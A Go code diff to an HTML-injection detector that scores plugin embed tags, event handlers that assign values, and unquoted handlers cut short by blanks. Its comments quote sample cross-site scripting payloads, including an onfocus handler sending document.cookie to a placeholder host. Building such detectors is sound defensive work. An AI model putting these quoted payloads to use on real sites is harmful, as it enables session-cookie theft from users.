@@ -121,7 +121,15 @@ func htmlFindingDepth(st *state, v string, offset, origLen int, skipAttr string,
 					// Embedding needs a source: "options <Object>" in API
 					// documentation has none.
 					if hasAttr && tagHasAttr(string(raw), "src", "data", "code", "srcdoc", "codebase", "classid") {
-						add(65, tag+" element with a source")
+						switch tag {
+						case "applet", "embed", "object":
+							// Plugin content (Java, Flash) runs code
+							// with the page's origin; editors embed
+							// video with iframes, not these.
+							add(75, tag+" element loads plugin code")
+						default:
+							add(65, tag+" element with a source")
+						}
 					} else {
 						add(40, tag+" element")
 					}
@@ -139,6 +147,7 @@ func htmlFindingDepth(st *state, v string, offset, origLen int, skipAttr string,
 				httpEquivRefresh bool
 				animHref         bool
 			)
+			cuts := 0
 			for hasAttr {
 				var key, val []byte
 				key, val, hasAttr = z.TagAttr()
@@ -149,6 +158,12 @@ func htmlFindingDepth(st *state, v string, offset, origLen int, skipAttr string,
 				a := attrJudge(st, tag, k, string(val))
 				if a.conf > 0 {
 					add(a.conf, a.reason)
+				}
+				if a.conf > 0 && a.conf < 75 && isHandler(k) && cuts < maxCuts {
+					cuts++ // each look re-reads the tag: bounded per tag
+					if c, why := cutHandler(st, string(raw), k); c > 0 {
+						add(c, why)
+					}
 				}
 				switch {
 				case k == "http-equiv" && strings.EqualFold(strings.TrimSpace(string(val)), "refresh"):
@@ -197,6 +212,11 @@ func attrJudge(st *state, tag, k, val string) attrVerdict {
 			return attrVerdict{95, "event handler " + k + ": " + r.ev.reason()}
 		case r.ev >= evCall:
 			return attrVerdict{75, "event handler " + k + " calls a function"}
+		case jsAssigns(val) && validJS(val):
+			// (new Image).src='//host/?'+x: a handler that writes a
+			// property or variable does something; sanitised rich text
+			// never carries a handler at all.
+			return attrVerdict{75, "event handler " + k + " assigns"}
 		case strings.TrimSpace(val) != "":
 			// A handler on a real element of user input: sanitised rich
 			// text never carries one, and a broken one still shows intent.
@@ -456,7 +476,7 @@ func attrBreakout(st *state, v string) (detect.Finding, bool) {
 		if w.open[len(w.open)-1] == '\'' && strings.IndexByte(v, '\'') < 0 {
 			continue
 		}
-		if w.open[len(w.open)-1] == '=' && strings.IndexAny(v, " \t\n/") < 0 {
+		if w.open[len(w.open)-1] == '=' && !strings.ContainsAny(v, " \t\n/") {
 			continue
 		}
 		doc := w.open + v + w.close
@@ -474,4 +494,68 @@ func attrBreakout(st *state, v string) (detect.Finding, bool) {
 		best.Reason = "attribute breakout: " + best.Reason
 	}
 	return best, best.Confidence > 0
+}
+
+// jsAssigns reports an assignment operator in src: an '=' that is not
+// part of ==, !=, <=, >= or =>.
+func jsAssigns(src string) bool {
+	for i := 0; i < len(src); i++ {
+		if src[i] != '=' {
+			continue
+		}
+		if i+1 < len(src) && (src[i+1] == '=' || src[i+1] == '>') {
+			i++
+			continue
+		}
+		if i > 0 && strings.IndexByte("=!<>", src[i-1]) >= 0 {
+			continue
+		}
+		return i > 0
+	}
+	return false
+}
+
+// maxCuts bounds cutHandler's looks per tag.
+const maxCuts = 2
+
+func isHandler(k string) bool { return len(k) > 2 && k[0] == 'o' && k[1] == 'n' && isLetters(k[2:]) }
+
+// cutHandler judges what an unquoted event handler was meant to hold:
+// "onfocus=new Image().src='//x/?'+document.cookie" ends, for the
+// tokenizer, at the first blank ("new"), and the rest becomes attribute
+// names. The text from the handler's value to the end of the tag is read
+// as script; when it reaches an execution or exfiltration sink, the
+// intent is plain even though this copy would not run.
+func cutHandler(st *state, raw, k string) (int, string) {
+	i := indexFold(raw, k)
+	if i < 0 {
+		return 0, ""
+	}
+	rest := raw[i+len(k):]
+	j := 0
+	for j < len(rest) && (rest[j] == ' ' || rest[j] == '\t' || rest[j] == '\n') {
+		j++
+	}
+	if j >= len(rest) || rest[j] != '=' {
+		return 0, ""
+	}
+	rest = strings.TrimLeft(rest[j+1:], " \t\n")
+	if rest == "" || rest[0] == '"' || rest[0] == '\'' {
+		return 0, "" // quoted: the tokenizer read the whole value
+	}
+	rest = strings.TrimSuffix(strings.TrimSuffix(rest, ">"), "/")
+	if r := scanJS(st, rest); r.ev.score() >= 80 {
+		return 78, "event handler " + k + " cut by a blank: " + r.ev.reason()
+	}
+	return 0, ""
+}
+
+// indexFold is strings.Index ignoring ASCII case, without allocating.
+func indexFold(s, sub string) int {
+	for i := 0; i+len(sub) <= len(s); i++ {
+		if hasPrefixFold(s[i:], sub) {
+			return i
+		}
+	}
+	return -1
 }
